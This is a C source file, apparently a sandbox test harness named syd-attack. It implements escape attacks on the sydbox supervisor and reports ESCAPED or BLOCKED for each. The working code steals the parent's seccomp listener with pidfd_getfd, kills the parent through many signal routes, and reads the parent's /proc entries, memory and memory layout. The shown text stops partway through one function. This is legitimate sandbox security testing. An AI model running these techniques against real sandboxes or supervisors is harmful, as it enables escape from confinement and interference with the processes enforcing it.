/* syd-attack: attacks from inside the sandbox on the supervisor and on the
 * world outside it (issue 9), one mode per attack, plus the stand-ins and
 * launchers the tests need to show each attack working without sydbox.
 *
 * Convention for every attack mode: the last line is
 *   ESCAPED <what>              and exit 0 when the attack reached its goal,
 *   BLOCKED <step>: <ERRNO>     and exit 1 when it could not.
 * Other lines are informational ("# ..." or "OK/FAIL item" lists).
 * Every mode finishes within a few seconds.
 *
 *   syd-attack steal-listener TARGET      take the parent's seccomp listener
 *                                         and CONTINUE our own creat(TARGET)
 *   syd-attack connect-flip OK BAD SECONDS
 *                                         connect to 127.0.0.1:OK while a thread
 *                                         flips the port to BAD: ESCAPED when a
 *                                         connection reached BAD
 *   syd-attack naive-supervisor TARGET    stand-in supervisor: a child with a
 *                                         notify filter (EPERM for every
 *                                         open/openat/creat) runs steal-listener
 *   syd-attack parent-wait [--setsid] CMD...
 *                                         stand-in parent (2 idle threads):
 *                                         runs CMD, prints "survived" if alive
 *   syd-attack signal-parent METHOD       SIGKILL the parent: kill, tkill, tgkill,
 *                                         sigqueue, tgsigqueue, pidfd, procfd,
 *                                         threads, threads-kill, or SIGIO with
 *                                         sigio-{fcntl,fcntl-ex,fiosetown,siocspgrp}
 *   syd-attack proc-parent                /proc/PPID entries, memory, pidfd_getfd
 *   syd-attack proc-layout                /proc/PPID maps, smaps...: its layout
 *   syd-attack proc-knobs                 writes /proc/PPID/{oom_score_adj,...};
 *                                         waits for EOF on stdin before exiting
 *   syd-attack prio-parent                priorities and limits of the parent;
 *                                         waits for EOF on stdin before exiting
 *   syd-attack kill-outside -1|0|-pgrp|sigio-HOW
 *                                         SIGTERM by pid -1 / own group (also as
 *                                         SIGIO); the victim's death is seen as
 *                                         EOF on fd 9
 *   syd-attack signal-lab pidns|pgrp|ns-run [--map-root] -- CMD...
 *                                         launcher: a victim and CMD in a new
 *                                         pid namespace (with its own /proc)
 *                                         or process group; ns-run: CMD alone
 *                                         in a new pid namespace; --map-root:
 *                                         be root of a new user namespace
 *   syd-attack tiocsti STRING | tioclinux | tioccons
 *   syd-attack ns-calls DIR               every namespace/mount call, one line each
 *   syd-attack bindmount-write ALLOWED DENIED
 *   syd-attack connect-reuse SLOWPATH ROUNDS
 *   syd-attack entry-after-recv DIR HOLD  C (uid 65534) mkdirs DIR/ro/pwned
 *                                         after creating HOLD (syd-hold.so keeps
 *                                         the worker); C is killed, X1 takes its
 *                                         pid and makes a checked call
 *   syd-attack status-of-the-dead DIR HOLD
 *                                         C (uid 0) mkdirs after creating HOLD
 *                                         (syd-hold.so keeps the worker after
 *                                         it read C's status); C is killed,
 *                                         N (uid 65534) takes its pid and
 *                                         mkdirs DIR/ro/pwned
 *   syd-attack stale-parent DIR | eldest-pid DIR self|exec | detached-tid DIR
 *   syd-attack ipc-dead-peer SOCKET DIR ROUNDS
 *                                         a locked process's magic command
 *                                         applied through a pid's earlier
 *                                         owner (section 9e); DIR/denied/pwned
 *                                         made means escaped
 *   syd-attack ipc-deep SOCKET DIR DEPTH  a locked process's descendant DEPTH
 *                                         levels down counts as outside for
 *                                         the control socket (DIR/denied/pwned)
 *   syd-attack orphan-exec-lock DIR       an orphan whose parent asked for
 *                                         magic_lock:exec is not locked at its
 *                                         exec (DIR/denied/pwned)
 *   syd-attack eldest-exec-lock DIR       the eldest asks for magic_lock:exec at
 *                                         run time and execs: the new program
 *                                         is unlocked (DIR/denied/pwned)
 *   syd-attack ipc-stolen-conn SOCKET DIR [lock|exec]
 *                                         a locked child takes its unlocked
 *                                         parent's control connection with
 *                                         pidfd_getfd (DIR/denied/pwned)
 *   syd-attack pidns-orphan DIR [lock|exec]
 *                                         a locked process's orphan adopted by
 *                                         an unlocked pid-namespace init is
 *                                         unlocked (DIR/denied/pwned)
 *   syd-attack early-child DIR getppid|exec [PROG]
 *                                         a child forked before we are released
 *                                         is released too (DIR/denied/pwned)
 *   syd-attack clone-parent DIR lock|exec|getppid|resume [PROG]
 *                                         a sibling made with CLONE_PARENT by a
 *                                         locked/unreleased process copies its
 *                                         parent's looser state (DIR/denied/pwned)
 *   syd-attack reaped-grandchild DIR getppid|exec [PROG]
 *                                         a grandchild forked before our release,
 *                                         reparented to us (a subreaper), is
 *                                         released (DIR/denied/pwned)
 *   syd-attack fan-write FILE             (root) FILE opened read-only under a
 *                                         fanotify FAN_OPEN mark: the event's
 *                                         descriptor is open for writing
 *   syd-attack acct-append FILE           (root) acct(FILE): the kernel appends
 *                                         accounting records to FILE
 *   syd-attack core-drop DIR              a core dump made by the kernel in DIR
 *                                         (relative core_pattern), replacing
 *                                         DIR/core
 *   syd-attack fs-ioctl FILE setversion|fslabel|freeze VALUE
 *                                         change FILE's inode generation or its
 *                                         file system's label through a
 *                                         read-only descriptor
 *   syd-attack rawdev-read DEV PATH       (root) read PATH's contents from the
 *                                         ext4 block device DEV
 *   syd-attack reopen-nameless DIR [CMD]  after magic CMD, reopen a memfd, an
 *                                         unlinked and an O_TMPFILE file for
 *                                         writing through /proc/self/fd (exit 0)
 *   syd-attack own-mem [CMD]              after magic CMD, write our own memory
 *                                         through /proc/self/mem and
 *                                         /proc/self/task/TID/mem (exit 0)
 *   syd-attack mem-hijack DIR write|read  a locked child writes a magic command
 *                                         into its unlocked parent's memory
 *                                         through /proc/PID/mem; the parent
 *                                         stats it, then the child writes
 *                                         DIR/denied/pwned or reads
 *                                         DIR/denied/secret
 *   syd-attack caps-across-exec DIR      a non-root process's capability is
 *                                         not kept for it across an exec
 *                                         (DIR/ro/pwned made means escaped)
 *   syd-attack stale-entry DIR ROUNDS root|ids
 *                                         A makes a checked call and exits; B,
 *                                         forked with A's pid (ns_last_pid) by
 *                                         a process with another root (chroot
 *                                         DIR) or uid (65534), mkdirs: does it
 *                                         get its own root and ids, not A's?
 *   syd-attack magic-race N [NOISE]       two threads change the magic lock at
 *                                         once; NOISE: a path whose denied
 *                                         creation keeps several workers busy
 * The red-team's findings (section 12):
 *   syd-attack own-listener TARGET        A: once the parent is gone (a line on
 *                                         stdin says so), a seccomp listener of
 *                                         our own answers our creat(TARGET)
 *   syd-attack listener-parent CMD...     stand-in supervisor: CMD's creat(2)
 *                                         goes to a listener it answers EPERM
 *   syd-attack prlimit-wide               B: prlimit64 on the parent's thread
 *                                         (tid on stdin), new limit at
 *                                         0x100000000; waits for EOF on stdin
 *   syd-attack peercred SOCKET            D: as uid 65534, what the server at
 *                                         SOCKET sees of us, forged creds too
 *   syd-attack peercred-dgram SOCKET      D: the same with datagrams sent to SOCKET
 *   syd-attack future-pid HELD FIFO [DENIED]
 *                                         F: prlimit64 on the next pid, which a
 *                                         supervisor thread takes meanwhile
 *   syd-attack group-race setpriority|ioprio [HELD]
 *                                         G: on our own group 0, joining the
 *                                         parent's group after the check
 *                                         (F, G: until HELD rounds held the
 *                                         answered call, or 4 s)
 *   syd-attack pidns-group nice|kill      H: group 0 from a new pid namespace
 *   syd-attack userns-signal V1 V2 [--no-drop]
 *                                         I: SIGTERM to V1 (pidfd) and V2's group
 *                                         as uid 65534, then from a user
 *                                         namespace of its own
 *   syd-attack vhangup | tiocvhangup      J: hang up the terminal
 *   syd-attack tty-stop ttin|ttou         J: stop the parent's process group
 *                                         through the terminal
 *   syd-attack tty-session CMD...         launcher: CMD as a job of a session
 *                                         on a fresh pty; reports its stops
 *   syd-attack cgroup-move                K: (root) the parent into a new cgroup;
 *                                         back after EOF on stdin
 *   syd-attack autogroup [NICE]           M: the session's autogroup nice
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/futex.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* ---- what the 6.1 headers lack ------------------------------------------ */
#ifndef __NR_pidfd_open
#define __NR_pidfd_open 434
#endif
#ifndef __NR_pidfd_getfd
#define __NR_pidfd_getfd 438
#endif
#ifndef __NR_pidfd_send_signal
#define __NR_pidfd_send_signal 424
#endif
#ifndef __NR_clone3
#define __NR_clone3 435
#endif
#ifndef __NR_open_tree
#define __NR_open_tree 428
#endif
#ifndef __NR_move_mount
#define __NR_move_mount 429
#endif
#ifndef __NR_fsopen
#define __NR_fsopen 430
#endif
#ifndef __NR_fsconfig
#define __NR_fsconfig 431
#endif
#ifndef __NR_fsmount
#define __NR_fsmount 432
#endif
#ifndef __NR_fspick
#define __NR_fspick 433
#endif
#ifndef __NR_mount_setattr
#define __NR_mount_setattr 442
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef CLONE_NEWCGROUP
#define CLONE_NEWCGROUP 0x02000000
#endif
#ifndef SECCOMP_USER_NOTIF_FLAG_CONTINUE
#define SECCOMP_USER_NOTIF_FLAG_CONTINUE (1UL << 0)
#endif
#ifndef SECCOMP_FILTER_FLAG_NEW_LISTENER
#define SECCOMP_FILTER_FLAG_NEW_LISTENER (1UL << 3)
#endif
#ifndef SECCOMP_RET_USER_NOTIF
#define SECCOMP_RET_USER_NOTIF 0x7fc00000U
#endif
#ifndef AUDIT_ARCH_X86_64
#define AUDIT_ARCH_X86_64 0xc000003eU
#endif
/* mount API (linux/mount.h clashes with sys/mount.h on glibc 2.36) */
#define SA_OPEN_TREE_CLONE 1
#define SA_OPEN_TREE_CLOEXEC O_CLOEXEC
#define SA_MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#define SA_FSOPEN_CLOEXEC 0x00000001
#define SA_FSCONFIG_CMD_CREATE 6
#define SA_FSMOUNT_CLOEXEC 0x00000001
#define SA_FSPICK_CLOEXEC 0x00000001
#define SA_MOUNT_ATTR_RDONLY 0x00000001
struct sa_mount_attr {
  uint64_t attr_set, attr_clr, propagation, userns_fd;
};
struct sa_clone_args {
  uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size,
      cgroup;
};
/* ioprio */
#define SA_IOPRIO_WHO_PROCESS 1
#define SA_IOPRIO_CLASS_IDLE 3
#define SA_IOPRIO_PRIO_VALUE(c, d) (((c) << 13) | (d))

/* ---- common helpers ---------------------------------------------------- */
static const char* en(int e) {
  const char* n = strerrorname_np(e);
  return n ? n : "E?";
}

static int escaped(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  printf("ESCAPED ");
  vprintf(fmt, ap);
  printf("\n");
  va_end(ap);
  fflush(stdout);
  return 0;
}

static int blocked(const char* step, int e) {
  printf("BLOCKED %s: %s\n", step, en(e));
  fflush(stdout);
  return 1;
}

static void info(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  printf("# ");
  vprintf(fmt, ap);
  printf("\n");
  va_end(ap);
  fflush(stdout);
}

static long pidfd_open_(pid_t pid) { return syscall(__NR_pidfd_open, pid, 0); }
static long pidfd_getfd_(int pidfd, int fd) { return syscall(__NR_pidfd_getfd, pidfd, fd, 0); }

static void sleep_ms(long ms) {
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
  }
}

static long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static int write_file(const char* path, const char* s) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = write(fd, s, strlen(s));
  int e = errno;
  close(fd);
  errno = e;
  return n == (ssize_t)strlen(s) ? 0 : -1;
}

/* Enters a new user namespace (plus `extra` namespaces) and maps the caller's
 * ids: to themselves, or to root with `map_root`. 0 or errno. */
static int enter_userns(int extra, int map_root) {
  uid_t uid = geteuid();
  gid_t gid = getegid();
  if (unshare(CLONE_NEWUSER | extra) != 0) return errno;
  char m[64];
  snprintf(m, sizeof m, "%u %u 1\n", map_root ? 0 : uid, uid);
  if (write_file("/proc/self/uid_map", m) != 0) return errno;
  if (write_file("/proc/self/setgroups", "deny") != 0) return errno;
  snprintf(m, sizeof m, "%u %u 1\n", map_root ? 0 : gid, gid);
  if (write_file("/proc/self/gid_map", m) != 0) return errno;
  return 0;
}

static int privileged(void) { return geteuid() == 0; }

/* A new mount namespace where mounts stay private: as root directly, as an
 * unprivileged user inside a new user namespace. 0 or errno. */
static int private_mount_ns(void) {
  int e = privileged() ? (unshare(CLONE_NEWNS) == 0 ? 0 : errno) : enter_userns(CLONE_NEWNS, 0);
  if (e) return e;
  if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) return errno;
  return 0;
}

/* ---- 1. listener theft --------------------------------------------------- */
static int stolen_listener = -1;
static atomic_int thief_answered;

static void* thief(void* arg) {
  (void)arg;
  for (;;) {
    struct seccomp_notif req;
    memset(&req, 0, sizeof req);
    if (ioctl(stolen_listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
      if (errno == EINTR || errno == ENOENT) continue;
      return NULL;
    }
    struct seccomp_notif_resp resp;
    memset(&resp, 0, sizeof resp);
    resp.id = req.id;
    resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    if (ioctl(stolen_listener, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0) atomic_fetch_add(&thief_answered, 1);
  }
}

static int steal_listener(const char* target) {
  pid_t ppid = getppid();
  int pidfd = (int)pidfd_open_(ppid);
  if (pidfd < 0) return blocked("pidfd_open(parent)", errno);
  int last_err = EBADF, copies = 0;
  for (int n = 0; n < 1024 && stolen_listener < 0; ++n) {
    int fd = (int)pidfd_getfd_(pidfd, n);
    if (fd < 0) {
      if (errno != EBADF) last_err = errno;
      continue;
    }
    ++copies;
    char link[64], buf[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t l = readlink(link, buf, sizeof buf - 1);
    if (l > 0) {
      buf[l] = 0;
      if (strstr(buf, "seccomp notify")) {
        stolen_listener = fd;
        info("stole the listener: parent %d fd %d", ppid, n);
        break;
      }
    }
    close(fd);
  }
  if (stolen_listener < 0) return blocked(copies ? "find listener" : "pidfd_getfd(parent)", copies ? ENOENT : last_err);
  /* The control: without the thief, the supervisor refuses the call. */
  long pre = syscall(__NR_creat, target, 0644);
  if (pre >= 0) {
    printf("SETUP creat(%s) succeeded before the theft: the target is not denied\n", target);
    return 2;
  }
  info("before the theft: creat: %s", en(errno));
  pthread_t t;
  pthread_create(&t, NULL, thief, NULL);
  int last = 0;
  long deadline = now_ms() + 1000;
  for (int i = 0; now_ms() < deadline; ++i) {
    long fd = syscall(__NR_creat, target, 0644);
    if (fd >= 0) {
      close((int)fd);
      return escaped("creat %s with the stolen listener (attempt %d)", target, i + 1);
    }
    last = errno;
    sleep_ms(20);
  }
  return blocked("creat", last);
}

/* The child installs a filter sending open/openat/creat to a listener, the
 * parent takes the listener and answers EPERM to everything; the child
 * then runs steal-listener against it. */
static int naive_supervisor(const char* target) {
  int pp[2], go[2];
  if (pipe(pp) != 0 || pipe(go) != 0) return 100;
  pid_t child = fork();
  if (child == 0) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_open, 3, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_openat, 2, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_creat, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) _exit(100);
    int l = (int)syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (l < 0) _exit(101);
    if (write(pp[1], &l, sizeof l) != sizeof l) _exit(102);
    char c;
    if (read(go[0], &c, 1) != 1) _exit(103);
    close(l);  /* only the supervisor holds it now */
    close(pp[0]);
    close(pp[1]);
    close(go[0]);
    close(go[1]);
    _exit(steal_listener(target));
  }
  int remote;
  if (read(pp[0], &remote, sizeof remote) != sizeof remote) return 104;
  int pidfd = (int)pidfd_open_(child);
  int listener = pidfd >= 0 ? (int)pidfd_getfd_(pidfd, remote) : -1;
  if (listener < 0) {
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 105;
  }
  info("naive supervisor %d holds the listener at fd %d", getpid(), listener);
  if (write(go[1], "g", 1) != 1) return 106;
  int status = 0, denied = 0;
  for (;;) {
    if (waitpid(child, &status, WNOHANG) == child) break;
    struct pollfd p = {listener, POLLIN, 0};
    if (poll(&p, 1, 50) <= 0 || !(p.revents & POLLIN)) continue;
    struct seccomp_notif req;
    memset(&req, 0, sizeof req);
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) continue;
    struct seccomp_notif_resp resp;
    memset(&resp, 0, sizeof resp);
    resp.id = req.id;
    resp.error = -EPERM;
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0) ++denied;
  }
  info("naive supervisor denied %d calls", denied);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* ---- 2. signals to the parent -------------------------------------------- */
/* Makes the kernel send `sig` to `owner` (a pid, or -pgrp) as the SIGIO of
 * a socket becoming readable: the owner set by fcntl F_SETOWN / F_SETOWN_EX
 * or ioctl FIOSETOWN / SIOCSPGRP, the signal by F_SETSIG. 0 or errno. */
static int sigio_signal(const char* how, pid_t owner, int sig, const char** step) {
  int sv[2];
  *step = "socketpair";
  if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0) return errno;
  long r;
  *step = how;
  if (strcmp(how, "fcntl") == 0) r = fcntl(sv[0], F_SETOWN, owner);
  else if (strcmp(how, "fcntl-ex") == 0) {
    struct f_owner_ex o = {owner < 0 ? F_OWNER_PGRP : F_OWNER_PID, owner < 0 ? -owner : owner};
    r = fcntl(sv[0], F_SETOWN_EX, &o);
  } else if (strcmp(how, "fiosetown") == 0) r = ioctl(sv[0], FIOSETOWN, &owner);
  else if (strcmp(how, "siocspgrp") == 0) r = ioctl(sv[0], 0x8902 /* SIOCSPGRP */, &owner);
  else return EINVAL;
  if (r != 0) return errno;
  *step = "F_SETSIG";
  if (fcntl(sv[0], F_SETSIG, sig) != 0) return errno;
  *step = "O_ASYNC";
  if (fcntl(sv[0], F_SETFL, fcntl(sv[0], F_GETFL) | O_ASYNC) != 0) return errno;
  *step = "write";
  if (write(sv[1], "x", 1) != 1) return errno;
  return 0;
}

static void* idle_thread(void* arg) {
  (void)arg;
  for (;;) pause();
  return NULL;
}

static int parent_wait(char** cmd) {
  if (strcmp(cmd[0], "--setsid") == 0) {
    /* A session (and so an autogroup) of its own; a process group leader
     * cannot have one, so its child is the stand-in then. */
    ++cmd;
    if (setsid() < 0) {
      pid_t c = fork();
      if (c < 0) return 100;
      if (c > 0) {
        int st;
        while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
        }
        return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
      }
      if (setsid() < 0) _exit(100);
    }
  }
  pthread_t t[2];
  for (int i = 0; i < 2; ++i) pthread_create(&t[i], NULL, idle_thread, NULL);
  pid_t c = fork();
  if (c == 0) {
    execvp(cmd[0], cmd);
    _exit(127);
  }
  int st;
  while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
  }
  int code = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
  printf("parent-wait: survived, child status %d\n", code);
  fflush(stdout);
  _exit(code);
}

/* Waits up to `ms` for the parent to go away (we are reparented). */
static int parent_died(pid_t ppid, long ms) {
  long end = now_ms() + ms;
  while (now_ms() < end) {
    if (getppid() != ppid) return 1;
    sleep_ms(5);
  }
  return getppid() != ppid;
}

/* Thread ids of `pid` other than the leader: from /proc/PID/task, or -1. */
static int parent_threads(pid_t pid, pid_t* out, int max) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/task", pid);
  DIR* d = opendir(path);
  if (!d) return -1;
  int n = 0;
  struct dirent* e;
  while ((e = readdir(d)) && n < max) {
    pid_t t = atoi(e->d_name);
    if (t > 0 && t != pid) out[n++] = t;
  }
  closedir(d);
  return n;
}

static int signal_parent(const char* m) {
  pid_t ppid = getppid();
  info("ppid=%d", ppid);
  long r = -1;
  int e = 0;
  siginfo_t si;
  memset(&si, 0, sizeof si);
  si.si_signo = SIGKILL;
  si.si_code = SI_QUEUE;
  si.si_pid = getpid();
  si.si_uid = getuid();
#define M(x) (strcmp(m, x) == 0)
  if (M("kill")) r = kill(ppid, SIGKILL);
  else if (M("tkill")) r = syscall(__NR_tkill, ppid, SIGKILL);
  else if (M("tgkill")) r = syscall(__NR_tgkill, ppid, ppid, SIGKILL);
  else if (M("sigqueue")) r = syscall(__NR_rt_sigqueueinfo, ppid, SIGKILL, &si);
  else if (M("tgsigqueue")) r = syscall(__NR_rt_tgsigqueueinfo, ppid, ppid, SIGKILL, &si);
  else if (M("pidfd")) {
    int fd = (int)pidfd_open_(ppid);
    if (fd < 0) return blocked("pidfd_open", errno);
    r = syscall(__NR_pidfd_send_signal, fd, SIGKILL, NULL, 0);
  } else if (M("procfd")) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d", ppid);
    int fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) return blocked("open /proc/PPID", errno);
    r = syscall(__NR_pidfd_send_signal, fd, SIGKILL, NULL, 0);
  } else if (strncmp(m, "sigio-", 6) == 0) {
    const char* step;
    int err = sigio_signal(m + 6, ppid, SIGKILL, &step);
    if (err) return blocked(step, err);
    r = 0;
  } else if (M("threads") || M("threads-kill")) {
    pid_t tids[256];
    int n = parent_threads(ppid, tids, 256);
    if (n < 0) {
      /* The listing is refused: guess tids just above the parent's; tgkill
       * only ever reaches threads of the parent's own thread group. */
      info("/proc/%d/task: %s; guessing tids", ppid, en(errno));
      int errs = 0;
      for (pid_t t = ppid + 1; t <= ppid + 64; ++t) {
        if (t == getpid()) continue;
        if (syscall(__NR_tgkill, ppid, t, SIGKILL) == 0) r = 0;
        else if (errno != ESRCH) e = errno, ++errs;
      }
      if (r != 0 && !errs) e = ESRCH;
    } else {
      info("parent has %d other threads", n);
      if (n == 0) return blocked("no worker threads", ESRCH);
      for (int i = 0; i < n; ++i) {
        long x = M("threads") ? syscall(__NR_tkill, tids[i], SIGKILL) : kill(tids[i], SIGKILL);
        if (x == 0) r = 0;
        else e = errno;
      }
    }
    if (r != 0) return blocked(m, e);
  } else {
    fprintf(stderr, "unknown method %s\n", m);
    return 100;
  }
#undef M
  if (r != 0) return blocked(m, errno);
  if (parent_died(ppid, 500)) return escaped("signal(%s): parent %d killed", m, ppid);
  printf("BLOCKED %s: parent alive (the call returned 0)\n", m);
  return 1;
}

/* ---- 3. /proc of the parent ------------------------------------------- */
static int proc_ok, proc_fail, proc_first_err;
static char proc_list[1024];

static void proc_result(const char* item, int ok, int e, const char* detail) {
  if (ok) {
    ++proc_ok;
    printf("OK %s%s%s\n", item, detail ? " " : "", detail ? detail : "");
    if (strlen(proc_list) + strlen(item) + 2 < sizeof proc_list) {
      if (proc_list[0]) strcat(proc_list, ",");
      strcat(proc_list, item);
    }
  } else {
    ++proc_fail;
    if (!proc_first_err) proc_first_err = e;
    printf("FAIL %s: %s\n", item, en(e));
  }
}

static ssize_t read_all(const char* path, char* buf, size_t len, int* err) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    *err = errno;
    return -1;
  }
  ssize_t n = read(fd, buf, len);
  *err = errno;
  close(fd);
  return n;
}

static int proc_parent(void) {
  pid_t p = getppid();
  info("ppid=%d", p);
  char path[128], buf[4096];
  int e = 0;
  /* fd/N links */
  int ok = 0, err = ENOENT;
  for (int n = 0; n < 256 && !ok; ++n) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", p, n);
    ssize_t l = readlink(path, buf, sizeof buf - 1);
    if (l > 0) {
      buf[l] = 0;
      ok = 1;
    } else if (errno != ENOENT) err = errno;
  }
  proc_result("readlink-fd", ok, err, ok ? buf : NULL);
  /* opening fd/N reopens the parent's file */
  ok = 0, err = ENOENT;
  for (int n = 0; n < 64 && !ok; ++n) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", p, n);
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (fd >= 0) {
      ok = 1;
      close(fd);
    } else if (errno != ENOENT) err = errno;
  }
  proc_result("open-fd", ok, err, NULL);
  ok = 0, err = ENOENT;
  for (int n = 0; n < 64 && !ok; ++n) {
    snprintf(path, sizeof path, "/proc/%d/fdinfo/%d", p, n);
    if (read_all(path, buf, sizeof buf, &e) > 0) ok = 1;
    else if (e != ENOENT) err = e;
  }
  proc_result("fdinfo", ok, err, NULL);
  /* memory: an address from maps when readable */
  uintptr_t addr = 0x10000;
  snprintf(path, sizeof path, "/proc/%d/maps", p);
  ssize_t n = read_all(path, buf, sizeof buf - 1, &e);
  if (n > 0) {
    buf[n] = 0;
    unsigned long lo = 0;
    char perms[8];
    for (char* line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
      if (sscanf(line, "%lx-%*x %7s", &lo, perms) == 2 && perms[0] == 'r') {
        addr = lo;
        break;
      }
    }
  }
  snprintf(path, sizeof path, "/proc/%d/mem", p);
  int mfd = open(path, O_RDONLY | O_CLOEXEC);
  proc_result("open-mem", mfd >= 0, errno, NULL);
  if (mfd >= 0) {
    char b[16];
    ssize_t got = pread(mfd, b, sizeof b, (off_t)addr);
    proc_result("read-mem", got > 0, errno, NULL);
    close(mfd);
  } else {
    proc_result("read-mem", 0, errno, NULL);
  }
  /* the contents: a read of zeroed strings reveals nothing */
  snprintf(path, sizeof path, "/proc/%d/environ", p);
  n = read_all(path, buf, sizeof buf, &e);
  int content = 0;
  for (ssize_t i = 0; i < n; ++i) content += buf[i] != 0;
  proc_result("environ", content > 0, n >= 0 ? ENODATA : e, NULL);
  const char* links[] = {"cwd", "root", "exe"};
  for (int i = 0; i < 3; ++i) {
    snprintf(path, sizeof path, "/proc/%d/%s", p, links[i]);
    ssize_t l = readlink(path, buf, sizeof buf - 1);
    if (l > 0) buf[l] = 0;
    proc_result(links[i], l > 0, errno, l > 0 ? buf : NULL);
  }
  /* task/TID/fd of every thread (the leader when the listing fails) */
  pid_t tids[257];
  int nt = parent_threads(p, tids, 256);
  if (nt < 0) nt = 0;
  tids[nt++] = p;
  ok = 0, err = ENOENT;
  for (int i = 0; i < nt && !ok; ++i)
    for (int fdn = 0; fdn < 64 && !ok; ++fdn) {
      snprintf(path, sizeof path, "/proc/%d/task/%d/fd/%d", p, tids[i], fdn);
      ssize_t l = readlink(path, buf, sizeof buf - 1);
      if (l > 0) ok = 1;
      else if (errno != ENOENT) err = errno;
    }
  proc_result("task-fd", ok, err, NULL);
  /* process_vm_readv: EFAULT means the permission check passed */
  char b[16];
  struct iovec local = {b, sizeof b}, remote = {(void*)addr, sizeof b};
  ssize_t got = process_vm_readv(p, &local, 1, &remote, 1, 0);
  proc_result("process_vm_readv", got > 0 || errno == EFAULT, errno, got > 0 ? "read" : NULL);
  int pidfd = (int)pidfd_open_(p);
  ok = 0, err = pidfd < 0 ? errno : EBADF;
  for (int fdn = 0; pidfd >= 0 && fdn < 64 && !ok; ++fdn) {
    int fd = (int)pidfd_getfd_(pidfd, fdn);
    if (fd >= 0) {
      ok = 1;
      close(fd);
    } else if (errno != EBADF) err = errno;
  }
  proc_result("pidfd_getfd", ok, err, NULL);
  if (proc_ok) return escaped("proc-parent: %s", proc_list);
  return blocked("proc-parent (every item)", proc_first_err);
}

/* The parent's memory layout (defeats its ASLR for any later attack). */
static int proc_layout(void) {
  pid_t p = getppid();
  info("ppid=%d", p);
  const char* files[] = {"maps", "smaps", "smaps_rollup", "numa_maps"};
  char path[128], buf[4096];
  for (size_t i = 0; i < sizeof files / sizeof files[0]; ++i) {
    snprintf(path, sizeof path, "/proc/%d/%s", p, files[i]);
    int e = 0;
    ssize_t n = read_all(path, buf, sizeof buf, &e);
    proc_result(files[i], n > 0, n == 0 ? ENODATA : e, NULL);
  }
  if (proc_ok) return escaped("proc-layout: %s", proc_list);
  return blocked("proc-layout (every file)", proc_first_err);
}

/* Writable /proc knobs of the parent: OOM victim choice, timer slack, core
 * dump filter, and the CPU share of its whole session (autogroup). Waits for
 * EOF on stdin before exiting, like prio-parent. */
static int proc_knobs(void) {
  pid_t p = getppid();
  printf("ppid=%d\n", p);
  const char* knobs[][2] = {
